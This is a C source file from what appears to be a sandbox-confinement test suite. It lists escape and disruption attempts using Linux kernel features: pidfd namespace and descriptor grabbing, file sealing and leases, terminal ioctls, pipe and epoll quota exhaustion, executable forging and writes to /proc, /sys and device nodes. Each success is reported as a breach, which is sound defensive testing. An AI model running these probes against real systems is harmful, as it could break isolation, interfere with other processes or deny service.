// SPDX-License-Identifier: Apache-2.0
/// Attacks with features of newer kernels, and with little-known features of older kernels.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/prctl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/eventfd.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#include "attack.h"

enum {
    kMostDescriptors = 256,
    kPeerProcess = 77,       // SO_PEERPIDFD, Linux 6.5
    kDelegation = 1024 + 16  // F_SETDELEG, Linux 6.19
};

static int outside(const char* name, int flags) {
    char path[4096];
    (void)snprintf(path, sizeof path, "%s/%s", victim("outside"), name);
    return open(path, flags | O_CLOEXEC);
}

/// Reports a breach unless the request fails with EPERM: after any other error, the kernel has
/// examined the request.
static void refused_request(const char* what, int fd, unsigned long request, void* argument) {
    const long result = ioctl(fd, request, argument);
    if (result >= 0 || errno != EPERM)
        breach(what, 0);
    see(what, result);
}

/// Opens the namespaces of another process through a descriptor of the process: PIDFD_GET_*, Linux
/// 6.11.
static void namespaces_of(int process) {
    for (unsigned kind = 1; kind <= 10; ++kind) {
        const int found = ioctl(process, _IO(0xFF, kind), 0);
        breach("namespace", found);
        breach("setns", found < 0 ? -1 : setns(found, 0));
    }
}

static void process_namespaces(void) {
    pid_t pids[kMostPids];
    const int count = all_victims(pids);
    for (int i = 0; i < count; ++i) {
        const int process = (int)syscall(SYS_pidfd_open, pids[i], 0);
        see("process", process);
        if (process >= 0)
            namespaces_of(process);
    }
}

/// Opens the processes at the other end of inherited sockets.
static void peer_processes(void) {
    for (int fd = 0; fd < kMostDescriptors; ++fd) {
        int process = -1;
        socklen_t size = sizeof process;
        if (getsockopt(fd, SOL_SOCKET, kPeerProcess, &process, &size) != 0)
            continue;
        see("peer", process);
        namespaces_of(process);
        breach("signal", syscall(SYS_pidfd_send_signal, process, 0, NULL, 0));
        breach("descriptor", syscall(SYS_pidfd_getfd, process, 0, 0));
    }
}

/// Follows links from our namespaces to other namespaces: NS_GET_PARENT; NS_MNT_GET_NEXT, Linux
/// 6.12.
static void next_namespaces(void) {
    static const char* const kNames[] = {"user", "pid", "mnt",    "net",
                                         "ipc",  "uts", "cgroup", "time"};
    char path[64];
    for (size_t i = 0; i < sizeof kNames / sizeof *kNames; ++i) {
        unsigned information[8] = {sizeof information};
        (void)snprintf(path, sizeof path, "/proc/self/ns/%s", kNames[i]);
        const int own = open(path, O_RDONLY | O_CLOEXEC);
        breach("parent", ioctl(own, _IO(0xB7, 2)));
        breach("next", ioctl(own, _IOR(0xB7, 11, char[16]), information));
        breach("previous", ioctl(own, _IOR(0xB7, 12, char[16]), information));
    }
}

/// Makes snapshots and copies of a file system, and changes its settings, through a read-only
/// descriptor of a folder.
static void other_file_systems(void) {
    static const struct {
        const char* name;
        unsigned long request;
    } kRequests[] = {{"btrfs", _IOW(0x94, 14, char[4096])},
                     {"bcachefs", _IOW(0xBC, 16, char[32])},
                     {"ocfs2", _IOW('o', 4, char[24])},
                     {"f2fs", _IOW(0xF5, 13, unsigned)},
                     {"ceph", _IOW(0x97, 5, char[40])},
                     {"cifs", _IOW(0xCF, 3, int)},
                     {"ext4", _IO('f', 12)},
                     {"xfs", _IOWR('X', 109, char[64])}};
    char argument[4096] = "";
    const int folder = outside(".", O_RDONLY | O_DIRECTORY);
    for (size_t i = 0; i < sizeof kRequests / sizeof *kRequests; ++i)
        refused_request(kRequests[i].name, folder, kRequests[i].request, argument);
}

/// Seals descriptors, after which no process could write to them.
static void seal_descriptors(void) {
    const int everything = F_SEAL_SEAL | F_SEAL_SHRINK | F_SEAL_GROW | F_SEAL_WRITE;
    breach("program", fcntl(open("/proc/self/exe", O_RDONLY | O_CLOEXEC), F_ADD_SEALS, everything));
    breach("file", fcntl(outside("canary", O_RDONLY), F_ADD_SEALS, everything));
    for (int fd = 0; fd < kMostDescriptors; ++fd)
        breach("inherited", fcntl(fd, F_ADD_SEALS, everything));
}

/// Delays changes of a folder or file by other processes for up to 45 seconds.
static void delegations(void) {
    static const char* const kKeys[] = {"outside", "state", "folder"};
    for (size_t i = 0; i < sizeof kKeys / sizeof *kKeys; ++i) {
        const int folder = open(victim(kKeys[i]), O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        unsigned wanted[2] = {0};
        breach("lease", fcntl(folder, F_SETLEASE, F_RDLCK));
        const int result = fcntl(folder, kDelegation, wanted);
        if (result >= 0 || errno != EPERM)
            breach("delegation", 0);
        see("delegation", result);
    }
    breach("lease of a file", fcntl(outside("canary", O_RDONLY), F_SETLEASE, F_RDLCK));
}

/// Changes settings of a terminal, for which a read-only descriptor is enough.
static void terminal_settings(void) {
    const int terminal = open(victim("terminal"), O_RDONLY | O_NOCTTY | O_NONBLOCK | O_CLOEXEC);
    struct winsize size = {.ws_row = 3, .ws_col = 7};
    struct termios settings = {0};
    const int discipline = 3;
    see("get", tcgetattr(terminal, &settings));
    settings.c_lflag ^= ECHO | ICANON;
    refused_request("settings", terminal, TCSETS, &settings);
    refused_request("settings later", terminal, TCSETSF, &settings);
    refused_request("size", terminal, TIOCSWINSZ, &size);
    refused_request("for itself alone", terminal, TIOCEXCL, NULL);
    refused_request("not any more", terminal, TIOCNXCL, NULL);
    refused_request("discipline", terminal, TIOCSETD, (void*)&discipline);
    refused_request("stop", terminal, TCXONC, (void*)TCOOFF);
    refused_request("go on", terminal, TCXONC, (void*)TCOON);
    refused_request("console", terminal, TIOCCONS, NULL);
    refused_request("the other end", terminal, _IO('T', 0x41), (void*)(O_RDWR | O_NOCTTY));
    refused_request("session", terminal, TIOCSCTTY, NULL);
}

/// Uses up the memory for pipes, which is counted per user. Later pipes of the daemon would have
/// only one page.
static void exhaust_pipes(void) {
    int ends[2];
    int count = 0;
    for (; count < 200 && pipe2(ends, O_CLOEXEC) == 0; ++count)
        if (fcntl(ends[1], F_SETPIPE_SZ, 1 << 20) < 0)
            break;
    see("pipes", count);
    pause_ms(300);
}

/// Uses up the watches of epoll, which are counted per user.
static void exhaust_epoll(void) {
    struct rlimit most = {0};
    struct epoll_event event = {.events = EPOLLIN};
    static int events[4000];
    long count = 0;
    int watched = 0;
    (void)getrlimit(RLIMIT_NOFILE, &most);
    most.rlim_cur = most.rlim_max;
    (void)setrlimit(RLIMIT_NOFILE, &most);
    while (watched < 4000 && (events[watched] = eventfd(0, EFD_CLOEXEC)) >= 0)
        ++watched;
    for (int i = 0; i < watched / 2; ++i)
        close(events[--watched]);
    const long late = now_ms() + 3000;
    for (int watch; now_ms() < late && (watch = epoll_create1(EPOLL_CLOEXEC)) >= 0;)
        for (int i = 0; i < watched; ++i, ++count)
            if (epoll_ctl(watch, EPOLL_CTL_ADD, events[i], &event) != 0)
                break;
    (void)fprintf(stderr, "%ld watches\n", count);
    pause_ms(300);
}

/// Redirects its own system calls.
static void user_dispatch(void) {
    pid_t pids[kMostPids];
    static volatile char allow = 0;  // SYSCALL_DISPATCH_FILTER_ALLOW
    const int count = all_victims(pids);
    see("dispatch", prctl(59, 1, 0UL, 0UL, &allow));
    for (int i = 0; i < count; ++i)
        see("kill", kill(pids[i], SIGUSR1));
    (void)prctl(59, 0, 0UL, 0UL, 0UL);
}

/// Pretends to be another program when the daemon checks the executable.
static void forge_program(void) {
    const int daemon = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
    for (unsigned long what = PR_SET_MM_START_CODE; what <= PR_SET_MM_ENV_END; ++what)
        breach("layout", prctl(PR_SET_MM, what, 0x10000UL, 0UL, 0UL));
    breach("program", prctl(PR_SET_MM, PR_SET_MM_EXE_FILE, (unsigned long)daemon, 0UL, 0UL));
    (void)prctl(PR_SET_NAME, "gpuprobed\x1b[2J");
}

/// Opens files in /proc and /sys for writing: settings of the process, its session and the kernel.
static void own_settings(void) {
    static const char* const kFiles[] = {"autogroup",
                                         "oom_score_adj",
                                         "attr/current",
                                         "attr/exec",
                                         "attr/sockcreate",
                                         "attr/apparmor/current",
                                         "attr/apparmor/exec",
                                         "attr/smack/current",
                                         "uid_map",
                                         "gid_map",
                                         "projid_map",
                                         "setgroups",
                                         "timens_offsets",
                                         "loginuid",
                                         "sched",
                                         "make-it-fail"};
    char path[128];
    for (size_t i = 0; i < sizeof kFiles / sizeof *kFiles; ++i) {
        (void)snprintf(path, sizeof path, "/proc/self/%s", kFiles[i]);
        see(kFiles[i], write_text(path, 0, "-20"));
    }
}

static void more_devices(void) {
    static const char* const kNodes[] = {
        "/dev/userfaultfd", "/dev/uhid",   "/dev/cuse",   "/dev/vfio/vfio", "/dev/iommu",
        "/dev/vhost-net",   "/dev/autofs", "/dev/ppp",    "/dev/nvram",     "/dev/snapshot",
        "/dev/tpm0",        "/dev/tpmrm0", "/dev/rfkill", "/dev/usbmon0",   "/dev/hidraw0",
        "/dev/video0",      "/dev/media0", "/dev/i2c-0",  "/dev/gpiochip0", "/dev/ipmi0",
        "/dev/mei0",        "/dev/sg0",    "/dev/zram0",  "/dev/dm-0",      "/dev/md0",
        "/dev/ptmx"};
    for (size_t i = 0; i < sizeof kNodes / sizeof *kNodes; ++i)
        breach(kNodes[i], open(kNodes[i], O_RDWR | O_NOCTTY | O_NONBLOCK | O_CLOEXEC));
    // A read-only descriptor is enough for USERFAULTFD_IOC_NEW.
    breach("userfaultfd",
           ioctl(open("/dev/userfaultfd", O_RDONLY | O_CLOEXEC), _IO(0xAA, 0), O_CLOEXEC));
}

static void tracing(void) {
    static const char* const kFiles[] = {"/sys/kernel/tracing/trace_marker",
                                         "/sys/kernel/tracing/tracing_on",
                                         "/sys/kernel/tracing/user_events_data",
                                         "/sys/kernel/debug/tracing/trace_marker",
                                         "/sys/kernel/tracing/kprobe_events",
                                         "/sys/fs/fuse/connections",
                                         "/sys/kernel/uevent_helper",
                                         "/sys/power/state",
                                         "/sys/module/kernel/uevent",
                                         "/proc/sys/user/max_user_namespaces",
                                         "/proc/pressure/cpu",
                                         "/proc/irq/default_smp_affinity",
                                         "/proc/sys/vm/drop_caches"};
    for (size_t i = 0; i < sizeof kFiles / sizeof *kFiles; ++i)
        breach(kFiles[i], open(kFiles[i], O_WRONLY | O_CLOEXEC));
}

/// Takes huge pages, which an administrator may have reserved for another program.
static void huge_pages(void) {
    const size_t size = (size_t)1 << 30;
    const void* memory = mmap(NULL, size, PROT_READ | PROT_WRITE,
                              MAP_PRIVATE | MAP_ANONYMOUS | MAP_HUGETLB | MAP_NORESERVE, -1, 0);
    see("map", memory == MAP_FAILED ? -1 : 0);
    const int file = memfd_create("huge", MFD_CLOEXEC | MFD_HUGETLB);
    see("file", file);
    see("fill", file < 0 ? -1 : fallocate(file, 0, 0, (off_t)size));
}

/// Waits for futexes that are marked as owned by other processes, so that the kernel links these
/// processes to them.
static void borrowed_futex(void) {
    pid_t pids[kMostPids];
    const struct timespec soon = {.tv_nsec = 50000000};
    const int count = all_victims(pids);
    for (int i = 0; i < count && i < 8; ++i) {
        unsigned lock = (unsigned)pids[i];
        struct timespec late = {0};
        clock_gettime(CLOCK_REALTIME, &late);
        late.tv_nsec = (late.tv_nsec + soon.tv_nsec) % 1000000000;
        see("lock", syscall(SYS_futex, &lock, 6 /* FUTEX_LOCK_PI */, 0, &late, NULL, 0));
    }
}

const struct attack kNewerAttacks[] = {
    {"process-namespaces", process_namespaces},
    {"peer-processes", peer_processes},
    {"next-namespaces", next_namespaces},
    {"other-file-systems", other_file_systems},
    {"seal-descriptors", seal_descriptors},
    {"delegations", delegations},
    {"terminal-settings", terminal_settings},
    {"exhaust-pipes", exhaust_pipes},
    {"exhaust-epoll", exhaust_epoll},
    {"user-dispatch", user_dispatch},
    {"forge-program", forge_program},
    {"own-settings", own_settings},
    {"more-devices", more_devices},
    {"tracing", tracing},
    {"huge-pages", huge_pages},
    {"borrowed-futex", borrowed_futex},
    {0},
};
